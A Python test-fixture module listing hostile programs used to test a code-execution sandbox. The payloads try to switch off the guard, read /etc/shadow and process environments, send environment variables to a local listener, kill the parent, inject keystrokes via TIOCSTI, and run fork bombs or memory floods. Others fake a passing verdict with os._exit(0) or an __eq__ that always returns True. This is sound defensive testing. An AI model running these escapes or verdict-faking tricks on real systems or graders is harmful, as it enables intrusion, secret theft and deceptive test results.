"""Hostile candidate programs for the sandbox suite, by category. {NAME} placeholders are
filled in by the test (canary paths, listener ports, think's pid, a process marker).

Each defines a correct `add` too, so that only the sandbox (and tests no program can pass)
stand between it and a reported pass.
"""

from __future__ import annotations

ADD = "\ndef add(a, b):\n    return a + b\n"


def attempt(*lines: str) -> str:
    """Each line tried on its own; failures are printed, as an attacker would see them."""
    body = "".join(f"try:\n    {line}\nexcept BaseException as e:\n    print('no:', repr(e))\n"
                   for line in lines)
    return "import os, sys, socket, signal\n" + body + ADD


WRITE_CANARY = "open('{CANARY}', 'w').write('pwned')"

HOSTILE = {
    # The old guard switched off from inside, then a write.
    "guard-code-swap": attempt(
        "sys.modules['__main__'].guard.__code__ = (lambda e, a: None).__code__",
        WRITE_CANARY),
    "guard-frame-globals": attempt(
        "[f.clear() for f in sys._getframe(1).f_globals.values() if isinstance(f, set)]",
        WRITE_CANARY),
    "guard-gc-objects": attempt(
        "import gc; [o.clear() for o in gc.get_objects() if isinstance(o, set)]",
        WRITE_CANARY),
    "guard-realpath-patch": attempt(
        "os.path.realpath = lambda p, **k: '/tmp/x'; os.fsdecode = lambda p: 'x'",
        WRITE_CANARY),
    # Native code: aliased modules, ctypes, sub-interpreters.
    "aliased-posixsubprocess": attempt(
        "import importlib.machinery as m, importlib.util as u, glob\n"
        "    path = glob.glob(os.path.dirname(os.__file__) + '/lib-dynload/_posixsubprocess*')[0]\n"
        "    spec = u.spec_from_loader('x._posixsubprocess', "
        "m.ExtensionFileLoader('x._posixsubprocess', path))\n"
        "    mod = u.module_from_spec(spec)",
        "os.system(\"echo pwned > {CANARY}; cat /etc/shadow\")"),
    "ctypes-libc-system": attempt(
        "import ctypes; ctypes.CDLL(None).system(b'echo pwned > {CANARY}; cat /etc/shadow')"),
    "subinterpreter": attempt(
        "import _testcapi; _testcapi.run_in_subinterp(\"" + WRITE_CANARY.replace("'", "\\'")
        + "\")"),
    "shell-and-subprocess": attempt(
        "import subprocess; print(subprocess.run(['sh', '-c', 'cat /etc/shadow /etc/passwd; "
        "echo pwned > {CANARY}; env'], capture_output=True, text=True))"),
    "nested-user-namespace": attempt(
        "import subprocess; print(subprocess.run(['unshare', '--user', '--map-root-user', "
        "'sh', '-c', 'mount -t tmpfs x /tmp && echo mounted; echo pwned > {CANARY}'], "
        "capture_output=True, text=True))",
        "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
        "print('unshare', libc.unshare(0x10000000), ctypes.get_errno())",
        "import ctypes; print('ptrace', ctypes.CDLL(None).ptrace(16, 1, 0, 0))"),
    # Writes around a path check.
    "dir-fd-write": attempt(
        "fd = os.open('{CANARY_DIR}', os.O_RDONLY); "
        "os.write(os.open('canary.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd), b'pwned')"),
    "proc-mem-write": attempt(
        "f = open('/proc/{THINK_PID}/mem', 'r+b'); f.seek(0x400000); f.write(b'\\0' * 64)",
        "f = open('/proc/1/mem', 'r+b'); f.seek(0x400000); f.write(b'\\0' * 64)",
        "f = open('/proc/self/mem', 'r+b'); print('own mem only')"),
    "mkfifo-mknod-outside": attempt(
        "os.mkfifo('{CANARY_DIR}/fifo')", "os.mknod('{CANARY_DIR}/node')",
        "os.setxattr('{CANARY}', 'user.x', b'1')"),
    "dev-shm": attempt(
        "open('/dev/shm/think-canary-shm', 'w').write('pwned')",
        "import multiprocessing.shared_memory as s; s.SharedMemory('think-canary', True, 4096)"),
    "sqlite-outside": attempt(
        "import sqlite3; sqlite3.connect('{CANARY_DIR}/db.sqlite').execute('create table t(x)')"),
    "symlink-race": attempt(
        "os.symlink('{CANARY}', 'link')", "open('link', 'w').write('pwned')",
        "os.symlink('/proc/{THINK_PID}/cwd', 'cwd'); print(os.listdir('cwd'))"),
    "tests-file-rewrite": attempt(
        "open('/sandbox/run/tests.py', 'w').write('pass')",
        "[open(p, 'w').write('pass') for p in __import__('glob').glob('/sandbox/*/*')]"),
    # Reading secrets.
    "parent-environ": attempt(
        "print(open('/proc/{THINK_PID}/environ').read())",
        "print(open('//proc/%d/environ' % os.getppid()).read())",
        "print(open('/./proc/1/environ').read())", "print(dict(os.environ))",
        "print([open(f'/proc/{p}/environ').read() for p in os.listdir('/proc') "
        "if p.isdigit()])"),
    "shadow-and-other-runs": attempt(
        "print(open('/etc/shadow').read())", "print(open('/etc/passwd').read())",
        "print(os.listdir('{CANARY_DIR}'))", "print(os.listdir('/tmp/..'))",
        "print(os.listdir('/root'))", "print(open('/proc/{THINK_PID}/cmdline').read())"),
    # The network.
    "tcp-connect": attempt(
        "socket.create_connection(('127.0.0.1', {TCP_PORT}), 1).sendall(repr(os.environ)"
        ".encode())"),
    "tcp-fastopen": attempt(
        "s = socket.socket(); s.sendmsg([b'x'], [], socket.MSG_FASTOPEN, "
        "('127.0.0.1', {TCP_PORT}))"),
    "udp-send": attempt(
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
        "('127.0.0.1', {UDP_PORT}))"),
    "unix-sockets": attempt(
        "s = socket.socket(socket.AF_UNIX); s.connect('{UNIX}'); s.sendall(b'x')",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '{UNIX_DGRAM}')"),
    "netlink-and-raw": attempt(
        "n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); n.bind((0, 0)); "
        "n.send(b'\\0' * 16)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
    # think's own process and terminal.
    "kill-the-parent": attempt(
        "signal.pidfd_send_signal(os.pidfd_open({THINK_PID}), signal.SIGKILL)",
        "os.kill({THINK_PID}, signal.SIGKILL)", "os.kill(os.getppid(), signal.SIGKILL)",
        "os.killpg(os.getpgid(0), signal.SIGKILL)", "os.kill(-1, signal.SIGTERM)"),
    "tiocsti": attempt(
        "import fcntl, termios\n"
        "    for fd in (0, 1, 2, 255):\n"
        "        try:\n"
        "            fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n"
        "            print('TIOCSTI went through on', fd)\n"
        "        except OSError:\n"
        "            pass",
        "fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), termios.TIOCSTI, b'x'); "
        "print('TIOCSTI went through on /dev/tty')"),
    # Processes that try to outlive the run or hold it up.
    "setsid-daemon": attempt(
        "import subprocess; subprocess.Popen(['sh', '-c', 'sleep 600 # {MARKER}'], "
        "start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL)"),
    "grandchild-holds-pipes": attempt(
        "import subprocess; subprocess.Popen(['sh', '-c', '(sleep 600 # {MARKER}) &'])",
        "pid = os.fork()\n    if pid == 0:\n        os.setsid()\n        "
        "os.execv('/bin/sh', ['sh', '-c', 'sleep 600 # {MARKER}'])"),
    "double-fork-daemon-loop": attempt(
        "pid = os.fork()\n    if pid == 0:\n        os.setsid()\n        "
        "os.execv('/bin/sh', ['sh', '-c', 'while :; do echo {MARKER} > /dev/null; done'])"),
    # Resources.
    "output-flood": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n" + ADD,
    "stderr-flood-no-newline": "import os\nwhile True:\n    os.write(2, b'y' * 65536)\n" + ADD,
    "fork-bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                 "        pass\n" + ADD,
    "shell-fork-bomb": attempt("os.system(':(){ :|:& };:')") + "while True:\n    pass\n",
    "memory-hog": "chunks = []\nwhile True:\n    chunks.append(bytearray(2**26))\n" + ADD,
    "tmpfs-fill": attempt(
        "[open(f'/tmp/fill{i}', 'wb').write(b'z' * 2**24) for i in range(64)]",
        "[open(f'fill{i}', 'wb').write(b'z' * 2**24) for i in range(64)]"),
    # Verdicts faked from inside, for the token and the plain-data compare.
    "fake-exit-zero": "import os\ndef add(a, b):\n    os._exit(0)\n",
    "fake-eq-and-token-spray": attempt(
        "[os.write(fd, b'0' * 32 + b'\\n') for fd in range(3, 256)]") +
        "class Yes(int):\n    def __eq__(self, other):\n        return True\n"
        "def add(a, b):\n    return Yes(a + b)\n",
}
